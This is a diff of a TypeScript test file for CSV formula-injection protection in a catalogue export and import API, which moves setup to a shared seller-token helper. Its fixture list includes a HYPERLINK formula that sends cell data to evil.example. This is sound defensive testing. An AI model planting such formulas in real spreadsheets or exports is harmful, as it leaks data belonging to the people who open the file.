@@ -1,6 +1,6 @@
 import { asc, eq } from 'drizzle-orm'
 import Papa from 'papaparse'
-import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { beforeAll, describe, expect, it } from 'vitest'
 import type { ImportPreview } from '../../worker/contract/admin'
 import type { Product } from '../../worker/contract/catalogue'
 import type { ErrorBody } from '../../worker/contract/common'
@@ -8,20 +8,17 @@ import { addressField, customerNameField, hasHiddenCharacters } from '../../work
 import type { SavedEnquiry } from '../../worker/contract/orders'
 import { products } from '../../worker/db/schema'
 import { escapeFormula, unescapeFormula } from '../../worker/lib/csv-cells'
-import { auth, createAdmin } from '../helpers/admin'
+import { auth } from '../helpers/admin'
+import { apiApp } from '../helpers/api-app'
 import { bigEnoughCart, catalogueOf, enquiryFor, post } from '../helpers/enquiry'
-import { API, createTestApp, type TestApp } from '../helpers/test-app'
+import { API } from '../helpers/test-app'
 
-let t: TestApp
-let token: string
+const t = apiApp({ seller: true })
 let catalogue: Product[]
 
 beforeAll(async () => {
-  t = await createTestApp()
-  token = await createAdmin(t)
   catalogue = await catalogueOf(t)
 })
-afterAll(() => t.close())
 
 const FORMULAS = [
   '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -40,7 +37,7 @@ describe('CSV formula injection', () => {
         .set({ name: FORMULAS[i]!, tamilName: i === 0 ? '=1+1 மத்தாப்பு' : row.tamilName })
         .where(eq(products.id, row.id))
     }
-    const res = await t.request(`${API}/admin/catalogue/export.csv`, { headers: auth(token) })
+    const res = await t.request(`${API}/admin/catalogue/export.csv`, { headers: auth(t.seller) })
     const csv = (await res.text()).replace(/^\uFEFF/, '')
     const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat()
     // No cell a spreadsheet would run: every formula starts with an apostrophe.
@@ -50,7 +47,7 @@ describe('CSV formula injection', () => {
 
     const again = await t.json<{ data: ImportPreview }>(`${API}/admin/catalogue/import?apply=0`, {
       method: 'POST',
-      headers: { 'Content-Type': 'text/csv', ...auth(token) },
+      headers: { 'Content-Type': 'text/csv', ...auth(t.seller) },
       body: csv,
     })
     expect(again.status).toBe(200)
